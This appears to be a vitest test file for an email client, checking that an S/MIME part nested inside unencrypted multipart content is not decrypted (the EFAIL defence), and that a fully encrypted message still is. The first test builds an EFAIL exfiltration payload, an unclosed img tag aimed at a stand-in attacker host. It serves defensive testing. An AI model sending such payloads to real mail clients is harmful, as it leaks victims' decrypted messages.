/**
 * Attack (EFAIL direct exfiltration): an encrypted part the victim can open, wrapped in a
 * cleartext multipart/mixed between attacker HTML that would leak the plaintext in a URL.
 */
import { expect, test } from 'vitest';
import { freshDesk } from '../desk/receive-helpers';
import { cms, content, encryptTo, loadPki, withHeaders } from '../smime/mail';
import { text } from '../smime/helpers';

test('the nested encrypted part is never decrypted or merged into the view', async () => {
	const { desk } = await freshDesk({ now: new Date() });
	await loadPki(desk, ['bob']);
	const encrypted = text(cms([...encryptTo('bob'), '-aes256'], content('TOP-SECRET-PLAINTEXT')));
	const mail =
		'Content-Type: multipart/mixed; boundary="atk"\r\n\r\n' +
		'--atk\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.test/?\r\n' +
		`--atk\r\n${encrypted}\r\n` +
		'--atk\r\nContent-Type: text/html\r\n\r\n">\r\n--atk--\r\n';
	const a = await desk.receive(withHeaders(mail, { from: 'mallory@evil.test' }));
	expect(a.security.encryption).toEqual({
		status: 'none',
		comment: 'The message contains an encrypted part inside unencrypted content. It was not decrypted; only a fully encrypted message is.'
	});
	expect(a.security.layers).toEqual([]);
	const shown = JSON.stringify({ text: a.text, html: a.html ?? '' });
	expect(shown).not.toContain('TOP-SECRET-PLAINTEXT');
	expect(a.attachments.some((x) => x.type.includes('pkcs7-mime'))).toBe(true);
	const [log] = await desk.logs();
	expect(log?.operation).toBe('receive');
});

test('the same encrypted part sent on its own is decrypted (top-level encryption counts)', async () => {
	const { desk } = await freshDesk({ now: new Date() });
	await loadPki(desk, ['bob']);
	const a = await desk.receive(withHeaders(cms([...encryptTo('bob'), '-aes256'], content('TOP-SECRET-PLAINTEXT'))));
	expect(a.security.encryption.status).toBe('decrypted');
	expect(a.text).toContain('TOP-SECRET-PLAINTEXT');
});
